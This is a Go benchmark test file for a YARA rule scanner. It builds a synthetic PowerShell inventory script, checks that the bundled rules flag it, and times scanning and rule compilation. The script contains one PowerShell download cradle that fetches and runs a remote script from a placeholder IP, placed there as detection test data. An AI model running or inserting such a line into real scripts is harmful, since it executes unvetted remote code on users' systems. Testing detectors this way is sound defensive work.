package yarascan_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/automaldesc/automaldesc/analysis/yarascan"
	"github.com/automaldesc/automaldesc/rules"
)

// script5K builds a typical ~5 KB admin-style PowerShell script with one
// download cradle line in the middle.
func script5K() []byte {
	var b strings.Builder
	b.WriteString("# Inventory and cleanup script\nparam([string]$Out = 'C:\\Reports')\n")
	for i := 0; b.Len() < 5*1024; i++ {
		fmt.Fprintf(&b, "$svc%d = Get-Service -Name 'svc%d' -ErrorAction SilentlyContinue\n", i, i)
		fmt.Fprintf(&b, "if ($svc%d.Status -eq 'Running') { Write-Output \"svc%d running\" | Out-File -Append \"$Out\\log.txt\" }\n", i, i)
		if i == 10 {
			b.WriteString("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')\n")
		}
	}
	return []byte(b.String())
}

// bundledScanner is a scanner over the bundled rules, closed with the
// benchmark.
func bundledScanner(b *testing.B) *yarascan.Scanner {
	b.Helper()
	r, err := rules.Load()
	if err != nil {
		b.Fatal(err)
	}
	s, err := r.NewScanner()
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(s.Close)
	return s
}

func BenchmarkScanBundled5K(b *testing.B) {
	s := bundledScanner(b)
	data := script5K()
	ctx := context.Background()
	ms, err := s.Scan(ctx, data, 0)
	if err != nil || len(ms) == 0 {
		b.Fatalf("got %v, %v, want a match", ms, err)
	}
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := s.Scan(ctx, data, 0); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkCompileBundled(b *testing.B) {
	srcs := rules.Bundled()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := yarascan.Compile(srcs); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkScanBundledTiny is the fixed cost of one scan: a 40-byte layer,
// where every rule's condition is still evaluated.
func BenchmarkScanBundledTiny(b *testing.B) {
	s := bundledScanner(b)
	ctx := context.Background()
	text := "Write-Output 'hello'; Get-Date | Out-Null"
	b.ReportAllocs()
	for b.Loop() {
		if _, err := s.ScanString(ctx, text, 0); err != nil {
			b.Fatal(err)
		}
	}
}
